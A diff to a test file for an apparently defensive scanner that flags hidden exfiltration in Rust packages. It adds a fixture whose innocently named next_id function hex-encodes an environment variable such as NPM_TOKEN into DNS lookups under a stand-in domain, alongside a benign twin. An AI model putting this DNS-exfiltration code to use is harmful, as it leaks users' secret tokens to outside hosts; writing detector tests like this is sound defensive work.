@@ -2,7 +2,8 @@
 // documented pub fn is an explicit call only for what its name or doc says it does; an
 // anti-analysis check asked of a helper predicate, or made by a caller, gates the flow as an
 // inline check does; a startup place built by a helper and written by its caller is persistence;
-// a byte-array literal read by a helper and run is a payload that is data. Each case has a benign
+// a byte-array literal read by a helper and run is a payload that is data; a secret spelled into a
+// host name being resolved uses DNS as its carrier. Each case has a benign
 // twin that differs only in the name, the stated purpose, what the helper checks or what is done
 // with the place or the bytes.
 import { describe, expect, it } from 'vitest';
@@ -250,6 +251,35 @@ describe('a byte array read through a helper and run', () => {
       ),
     );
     expect(worst(r, 'flow.decoded-exec')).toBeNull();
+    expect(high(r)).toBe(false);
+  });
+});
+
+describe('a secret spelled into a name being resolved', () => {
+  const lookup = (var_: string) => ({
+    'Cargo.toml': manifest('idgen'),
+    'src/lib.rs': src(
+      'use std::net::ToSocketAddrs;',
+      'pub fn next_id() -> u64 {',
+      `    let v = std::env::var("${var_}").unwrap_or_default();`,
+      '    let hex: String = v.bytes().map(|b| format!("{b:02x}")).collect();',
+      '    for chunk in hex.as_bytes().chunks(60) {',
+      '        let label = String::from_utf8_lossy(chunk);',
+      '        let _ = format!("{label}.ids.example:53").to_socket_addrs();',
+      '    }',
+      '    42',
+      '}',
+    ),
+  });
+
+  it('a token hex-encoded into the labels of a lookup is exfiltration over DNS', async () => {
+    const r = await scanFiles(lookup('NPM_TOKEN'));
+    expect(worst(r, 'flow.exfiltration')).toBe('high');
+  });
+
+  it('benign twin: the name resolved comes from an ordinary setting', async () => {
+    const r = await scanFiles(lookup('IDGEN_SHARD'));
+    expect(worst(r, 'flow.exfiltration')).toBeNull();
     expect(high(r)).toBe(false);
   });
 });
